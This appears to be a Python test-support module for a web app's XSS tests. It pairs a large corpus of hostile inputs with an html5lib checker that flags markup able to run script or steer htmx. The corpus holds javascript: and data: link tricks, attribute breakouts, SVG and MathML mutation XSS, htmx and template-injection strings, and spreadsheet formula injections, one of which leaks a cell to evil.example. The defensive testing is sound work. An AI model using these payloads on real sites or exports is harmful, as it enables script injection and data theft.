"""Hostile input for the XSS tests, and the checker that says whether a page could run it.

`PAYLOADS` is the corpus: the Markdown renderer's own list (tests/incidents/test_markdown.py)
plus payloads aimed at the rest of the app — attribute and element breakouts for the places
where text is escaped rather than sanitised, Markdown link forms (reference links, autolinks,
entity-encoded schemes), SVG and MathML mutation XSS, `<noscript>`/`<template>`/`<style>`
parser tricks, htmx attributes, template syntax, and spreadsheet formulas for the CSV export.

`script_problems(html)` parses a response with html5lib, as a browser would, and lists every
way in which something on it could run script or be steered by htmx. An empty list is a pass.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib

from tests.incidents.test_markdown import XSS_PAYLOADS as MARKDOWN_PAYLOADS

# --- The corpus -------------------------------------------------------------------------------

LINK_PAYLOADS = [
    "[md link](javascript:alert('md'))",
    "[colon entity](javascript&#58;alert(1))",
    "[hex entity](jav&#x61;script:alert(1))",
    "[leading entity](&#x6A;avascript:alert(1))",
    "[angle target](<javascript:alert(1)>)",
    "[reference link][evil]\n\n[evil]: javascript:alert('ref')",
    "[data reference][pic]\n\n[pic]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '[titled reference][t]\n\n[t]: vbscript:msgbox(1) "title"',
    "<javascript:alert('autolink')>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "[percent](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[control](\x01javascript:alert(1))",
    "[![nested image](https://ok.example/i.png)](javascript:alert(1))",
    '<a href="java&#x0A;script:alert(1)">encoded newline</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded entities</a>',
    "https://ok.example/\"onmouseover=\"alert('bare')",
    "www.ok.example/<script>alert('linkify')</script>",
]

BREAKOUT_PAYLOADS = [
    "\"><script>alert('attr')</script>",
    "'><svg/onload=alert('single')>",
    "</textarea><script>alert('textarea')</script>",
    "</title><script>alert('title')</script>",
    "</script><script>alert('script')</script>",
    "</option></select><img src=x onerror=alert('select')>",
    "<!--<img src=\"--><img src=x onerror=alert('comment')//\">",
    "<![CDATA[<script>alert('cdata')</script>]]>",
    "<img/src/onerror=alert('slash')>",
    "<div onpointerover=\"alert('pointer')\">hover</div>",
    "<a href=https://ok.example onfocus=alert('focus') autofocus>focus</a>",
    "<details open ontoggle=\"alert('toggle')\"><summary>x</summary></details>",
    "<marquee onstart=alert('marquee')>x</marquee>",
    "<img src=\"x:gif\" onerror=\"window['al'+'ert'](1)\">",
    "<button formaction=\"javascript:alert('formaction')\">x</button>",
    "<iframe srcdoc=\"&lt;script&gt;alert('srcdoc')&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"data:text/html,<script>alert('embed')</script>\">",
    "<base href=\"javascript:alert('base')//\">",
    '<link rel="import" href="data:text/html,<script>alert(\'import\')</script>">',
    '<a href="#" style="position:fixed;inset:0">full-page overlay</a>',
    "\u202e<a href=\"javascript:alert('rtl')\">rtl</a>",
    "\uff1cscript\uff1ealert('fullwidth')\uff1c/script\uff1e",
    # The private-use characters that search marks its hits with, around markup.
    "\ue000<img src=x onerror=alert('hit')>\ue001\ue002</mark><script>alert('mark')</script>",
]

MUTATION_PAYLOADS = [
    "<svg><style><img src=x onerror=alert('svg style')></style></svg>",
    '<svg><a xlink:href="javascript:alert(\'xlink\')"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
    "<svg><set attributeName=href to=\"javascript:alert('set')\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert('fo')</script>\"></iframe>"
    "</foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('mxss')>\">",
    "<math><mi xlink:href=\"javascript:alert('mi')\">x</mi></math>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(\'maction\')">x'
    "</maction></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    "<img onerror=alert('purify') src>\">",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    "<img src onerror=alert('h1')>\"></style></h1>",
    "<noscript><style></noscript><img src=x onerror=alert('noscript')></style></noscript>",
    "<template><img src=x onerror=alert('template')></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=x onerror=alert('style')></style>",
    "<xmp><script>alert('xmp')</script></xmp>",
    "<plaintext><script>alert('plaintext')</script>",
]

HTMX_PAYLOADS = [
    '<div hx-get="/admin/?xss=hx-get" hx-trigger="load" hx-target="body">hx-get</div>',
    "<button hx-on:click=\"alert('hx-on')\">hx-on</button>",
    "<div hx-on::before-request=\"alert('before')\">hx-on::before-request</div>",
    "<div hx-on--after-swap=\"alert('dashes')\">hx-on--after-swap</div>",
    '<div data-hx-post="/incidents/new/?xss=data-hx" data-hx-trigger="load">data-hx-post</div>',
    '<div data-hx-on:click="alert(1)">data-hx-on</div>',
    '<div hx-vals=\'js:{a: alert("vals")}\' hx-post="/?xss=vals">hx-vals js</div>',
    '<a hx-boost="true" href="/admin/?xss=boost">hx-boost</a>',
    '<div hx-swap-oob="innerHTML:body">out of band</div>',
    '<input hx-trigger="load" hx-get="/accounts/logout/?xss=logout" hx-swap="outerHTML">',
    '<meta name="htmx-config" content=\'{"allowEval":true,"allowScriptTags":true}\'>',
    '<div hx-headers=\'{"X-CSRFToken":"xss"}\' hx-post="/actions/bulk/?xss=headers">x</div>',
    '<form hx-post="/incidents/?xss=form" hx-trigger="load"></form>',
    "<div _=\"on load call alert('hyperscript')\">hyperscript</div>",
]

TEMPLATE_PAYLOADS = [
    "{{ request.user.username }} {{ csrf_token }} {{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}{% now 'Y' %}",
    "{{ constructor.constructor('alert(1)')() }}",
    "${alert('template literal')} #{7*7} <%= 7*7 %>",
]

CSV_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "=cmd|' /C notepad'!'A1'",
]

OWN_PAYLOADS = [
    *LINK_PAYLOADS,
    *BREAKOUT_PAYLOADS,
    *MUTATION_PAYLOADS,
    *HTMX_PAYLOADS,
    *TEMPLATE_PAYLOADS,
    *CSV_PAYLOADS,
]
PAYLOADS = list(dict.fromkeys([*OWN_PAYLOADS, *MARKDOWN_PAYLOADS]))

# Rendered Markdown carries this in bold; wherever <strong>MD_SENTINEL</strong> shows up, it is
# an author's Markdown marked safe, and it must sit inside an element with hx-disable.
MD_SENTINEL = "mdzonesentinel"
# A phrase the blame checker always flags, so its findings quote the text around it.
BLAME_PHRASE = "human error"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEMPLATE_LITERAL = "{{ request.user.username }}"


def payload(n: int) -> str:
    """The n-th payload, cycling through the corpus."""
    return PAYLOADS[n % len(PAYLOADS)]


def markup_payload(n: int) -> str:
    """The n-th of the payloads that would run if a page showed them unescaped: for the
    fields that are shown escaped, where only markup could break out."""
    return MARKUP_PAYLOADS[n % len(MARKUP_PAYLOADS)]


def clip(text: str, length: int) -> str:
    return text[:length]


# --- What the app itself emits ----------------------------------------------------------------

ROOT = Path(__file__).resolve().parent.parent
_HX_NAME = re.compile(r"(?<![\w-])((?:data-)?hx-[a-z][a-z-]*)(?==)")


def _app_hx_attributes() -> frozenset[str]:
    """Every hx-* attribute name written in the templates or in Python-built HTML."""
    names: set[str] = set()
    sources = [*ROOT.joinpath("templates").rglob("*.html")]
    sources += [*ROOT.joinpath("incidents").glob("*.py"), *ROOT.joinpath("lessons").glob("*.py")]
    for path in sources:
        names.update(_HX_NAME.findall(path.read_text(encoding="utf-8")))
    return frozenset(names)


APP_HX_ATTRIBUTES = _app_hx_attributes()
HTMX_CONFIG = (
    '{"allowEval": false, "allowScriptTags": false, "includeIndicatorStyles": false, '
    '"selfRequestsOnly": true, "defaultSettleDelay": 0}'
)

# --- The checker ------------------------------------------------------------------------------

SVG_NS = "http://www.w3.org/2000/svg"
MATHML_NS = "http://www.w3.org/1998/Math/MathML"
XLINK_NS = "http://www.w3.org/1999/xlink"

# Elements that load or run something, change how the page resolves URLs, or hide markup from
# a sanitiser. None of them is in Debrief's templates.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "iframe", "frame", "frameset", "object", "embed", "applet", "param", "base", "template",
        "noscript", "style", "img", "image", "video", "audio", "source", "track", "picture",
        "isindex", "portal", "xmp", "plaintext", "noembed", "noframes", "marquee", "math",
    }
)  # fmt: skip
# The charts on the metrics page are inline SVG made of these and nothing else.
SAFE_SVG_ELEMENTS = frozenset(
    {"svg", "title", "desc", "g", "rect", "line", "circle", "ellipse", "text", "tspan", "path",
     "polyline", "polygon"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "cite", "codebase", "ping", "manifest", "lowsrc", "dynsrc", "longdesc", "profile",
        "usemap", "icon", "archive", "classid", "to", "from", "values",
    }
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
HX_URL_ATTRIBUTES = frozenset({"hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete"})
HX_JSON_ATTRIBUTES = frozenset({"hx-vals", "hx-headers", "hx-request"})
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
_STRIPPED = "".join(chr(c) for c in range(0x21)) + "\x7f"
# What the {% debug %} tag prints: the template context. Never on a page.
DEBUG_OUTPUT = ("'csrf_token':", "&#x27;csrf_token&#x27;:", "<WSGIRequest", "&lt;WSGIRequest",
                "sql_queries")  # fmt: skip


def url_scheme(value: str) -> str | None:
    """The scheme a browser would read from an attribute value, or None for a relative URL.
    Browsers drop leading and trailing C0 controls and spaces and every tab and newline."""
    cleaned = re.sub(r"[\t\n\r]", "", value).strip(_STRIPPED)
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def is_same_origin_path(value: str) -> bool:
    cleaned = value.strip(_STRIPPED)
    return cleaned.startswith("/") and not cleaned.startswith(("//", "/\\"))


def _name(element: Element) -> tuple[str, str]:
    """(namespace, lower-case local name) of an html5lib etree element."""
    tag = element.tag
    if tag.startswith("{"):
        namespace, _, local = tag[1:].partition("}")
        return namespace, local.lower()
    return "", tag.lower()


def _attributes(element: Element):
    for raw, value in element.attrib.items():
        if raw.startswith("{"):
            namespace, _, local = raw[1:].partition("}")
            prefix = "xlink:" if namespace == XLINK_NS else f"{{{namespace}}}"
            yield prefix + local.lower(), value
        else:
            yield raw.lower(), value


def parse(html: str) -> Element:
    """The document as a browser builds it. A bare table row (an htmx partial) is parsed in a
    table body, where a browser's htmx would put it; anything else as a document."""
    stripped = html.lstrip()
    if stripped.lower().startswith("<tr"):
        return html5lib.parseFragment(html, container="tbody", namespaceHTMLElements=False)
    return html5lib.parse(html, namespaceHTMLElements=False)


def script_problems(html: str, *, nonce: str | None = None, allow_style: bool = False) -> list[str]:
    """Every way the page could run script or let author text steer htmx. Empty: safe."""
    problems: list[str] = []
    root = parse(html)
    for marker in DEBUG_OUTPUT:
        if marker in html:
            problems.append(f"template context printed ({marker!r}): {{% debug %}} was evaluated")

    def walk(element: Element, *, in_user_zone: bool):
        namespace, name = _name(element)
        attributes = dict(_attributes(element))
        here = f"<{name}{''.join(f' {k}={v!r}' for k, v in list(attributes.items())[:6])}>"

        if name in FORBIDDEN_ELEMENTS:
            problems.append(f"forbidden element {here}")
        if namespace == MATHML_NS:
            problems.append(f"MathML element {here}")
        if namespace == SVG_NS or name == "svg":
            if in_user_zone:
                problems.append(f"SVG inside author content {here}")
            if name not in SAFE_SVG_ELEMENTS:
                problems.append(f"SVG element that can load or run something {here}")
        if name == "script":
            src = attributes.get("src", "")
            if src:
                if not (is_same_origin_path(src) and src.startswith("/static/")):
                    problems.append(f"script from outside /static/ {here}")
            elif not nonce or attributes.get("nonce") != nonce:
                problems.append(f"inline script without the page's nonce {here}: {element.text!r}")
        if name == "meta":
            if "http-equiv" in attributes:
                problems.append(f"meta http-equiv {here}")
            if attributes.get("name", "").lower() == "htmx-config" and (
                attributes.get("content") != HTMX_CONFIG
            ):
                problems.append(f"htmx-config that is not the app's {here}")
        if name == "link":
            rel = attributes.get("rel", "").lower()
            href = attributes.get("href", "")
            if rel not in ("stylesheet", "icon") or not href.startswith("/static/"):
                problems.append(f"link that is not one of the app's stylesheets {here}")

        for attribute, value in attributes.items():
            bare = attribute.removeprefix("data-")
            if attribute.startswith("on"):
                problems.append(f"event handler {attribute} on {here}")
            elif attribute == "style" and not allow_style:
                problems.append(f"style attribute on {here}")
            elif attribute in ("srcdoc", "srcset"):
                problems.append(f"{attribute} on {here}")
            elif attribute == "hx-disable":
                pass  # what keeps htmx out of author content
            elif bare.startswith("hx-") or attribute == "_":
                problems.extend(_htmx_problems(attribute, value, here, in_user_zone))
            if attribute in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"{scheme}: URL in {attribute} of {here}")
            if attribute in ("action", "formaction") and value and not is_same_origin_path(value):
                problems.append(f"form that posts off the site: {here}")
            if attribute == "src" and name != "script":
                problems.append(f"{name} loads {value!r}")

        zone = in_user_zone or "hx-disable" in attributes
        if name == "strong" and (element.text or "").strip() == MD_SENTINEL and not zone:
            problems.append("an author's Markdown is rendered outside an hx-disable element")
        for child in element:
            if isinstance(child.tag, str):
                walk(child, in_user_zone=zone)

    walk(root, in_user_zone=False)
    return problems


def _htmx_problems(attribute: str, value: str, here: str, in_user_zone: bool) -> list[str]:
    problems = []
    bare = attribute.removeprefix("data-")
    if attribute == "_":
        return [f"hyperscript attribute on {here}"]
    if bare.startswith("hx-on"):
        return [f"{attribute} (inline htmx handler) on {here}"]
    if attribute not in APP_HX_ATTRIBUTES:
        problems.append(f"{attribute} is not an attribute Debrief's templates use, on {here}")
    if in_user_zone:
        problems.append(f"{attribute} inside author content (hx-disable) on {here}")
    if bare in HX_URL_ATTRIBUTES:
        # The payloads' own htmx URLs carry `xss=` or aim at the admin or at signing out.
        path, _, query = value.split("#")[0].partition("?")
        if not is_same_origin_path(value):
            problems.append(f"{attribute} requests {value!r}, not a path on this site")
        elif path.startswith(("/admin", "/accounts/logout")) or re.search(r"(^|&)xss=", query):
            problems.append(f"{attribute} requests {value!r}, a URL from a payload")
    elif bare in HX_JSON_ATTRIBUTES:
        text = value.strip()
        if text.lower().startswith(("js:", "javascript:")):
            problems.append(f"{attribute} evaluates script: {value!r}")
        else:
            try:
                parsed = json.loads(text)
            except ValueError:
                problems.append(f"{attribute} is not JSON: {value!r}")
            else:
                if not isinstance(parsed, dict):
                    problems.append(f"{attribute} is not a JSON object: {value!r}")
    elif bare == "hx-swap-oob":
        if value not in ("true", "afterbegin:#main"):
            problems.append(f"{attribute}={value!r} is not an out-of-band swap the app makes")
    elif re.search(r"<|javascript:|alert|eval\(|xss", value, re.IGNORECASE):
        problems.append(f"{attribute}={value!r} holds author text")
    return problems


MARKUP_PAYLOADS = [p for p in PAYLOADS if script_problems(f"<div>{p}</div>")]
